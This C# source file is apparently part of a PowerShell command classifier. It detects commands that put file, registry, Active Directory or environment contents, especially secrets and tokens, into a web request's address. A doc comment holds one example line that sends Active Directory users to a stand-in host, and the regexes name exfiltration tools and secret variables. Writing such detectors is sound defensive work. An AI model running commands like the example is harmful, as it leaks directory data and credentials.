using System.Text.RegularExpressions;

namespace Firstlook.Effects.PowerShell;

/// <summary>What files, the registry, a directory or the environment hold, and then stands in the address of a request: <c>irm "https://h/?x=$(Get-ADUser -Filter *)"</c>.</summary>
internal static partial class SentOn
{
    /// <summary>Whether a text shows what such a place holds.</summary>
    public static bool Holds(string text) => Held().IsMatch(text);

    /// <returns>Why the text is no read; null where no address carries what is held.</returns>
    public static string? Problem(string text) =>
        Held().IsMatch(text) && Carrying().IsMatch(text) ? "what is held here may be part of an address"
        : WithEnvironment().IsMatch(text) ? "what the environment holds is part of an address" : null;

    /// <summary>A GET's body becomes its query (Invoke-RestMethod, "-Body").</summary>
    public static Verdict? Body(IReadOnlyList<PowerShellToken> tokens)
    {
        for (var at = 1; at + 1 < tokens.Count; at++)
        {
            if (tokens[at].Kind != PowerShellKind.Word || !tokens[at].Text.StartsWith("-b", StringComparison.OrdinalIgnoreCase) || tokens[at + 1].Kind is not (PowerShellKind.Table or PowerShellKind.Word)) continue;
            var query = string.Join('&', Pair().Matches(tokens[at + 1].Text).Select(pair => pair.Groups["key"].Value + "=" + pair.Groups["value"].Value));
            if (query.Length > 0 && Http.HttpJudge.Request("GET", "http://host/?" + query, "") is { Effect: > Effect.Read } acts) return acts;
        }

        return null;
    }

    /// <summary>-UseDefaultCredentials signs in as this user, wherever the address leads: a name with a dot that is none of the own network's may be anybody's.</summary>
    public static bool SignsIn(IReadOnlyList<Argument> words) =>
        words.Any(word => word.Text.StartsWith("-UseDef", StringComparison.OrdinalIgnoreCase)) && words.Skip(1).Any(word => Host().Match(word.Text) is { Success: true } host && !Own().IsMatch(host.Groups["host"].Value));

    [GeneratedRegex(@"(?<key>[\w.-]+)['""]?\s*=\s*['""]?(?<value>[^'"";\n&]*)", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Pair();

    [GeneratedRegex(@"^(https?://)?(?<host>[^/:?]+)", RegexOptions.ExplicitCapture | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Host();

    [GeneratedRegex(@"^-|^[^.]+$|\.(local|lan|corp|internal|intranet|home|intra|localdomain)$|^(10|127|192\.168|172\.(1[6-9]|2\d|3[01]))\.[\d.]+$", RegexOptions.ExplicitCapture | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Own();

    [GeneratedRegex(@"(?<![\w-])(Select-String|sls|findstr|Get-ItemProperty|Get-ItemPropertyValue|gpv|reg(\.exe)?\s+query|Get-AD\w+|Get-LocalUser|Get-Mg\w+|Get-Mailbox|Get-Recipient|Invoke-Sqlcmd|Get-Credential|Get-Content|gc|cat|type|Import-Csv|Import-Clixml|more)(?![\w-])", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Held();

    [GeneratedRegex(@"(?<![\w-])(Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl|wget)(\.exe)?\s[^\n;|]*://[^\n;|\s]*\$", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex Carrying();

    [GeneratedRegex(@"(?<![\w-])(Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl|wget)(\.exe)?\s[^\n;|]*://[^\n;|\s]*(\?[^\n;|\s]*\$\{?env:|\$\{?env:\w*(SECRET|TOKEN|PASS|KEY|CRED))", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
    private static partial Regex WithEnvironment();
}
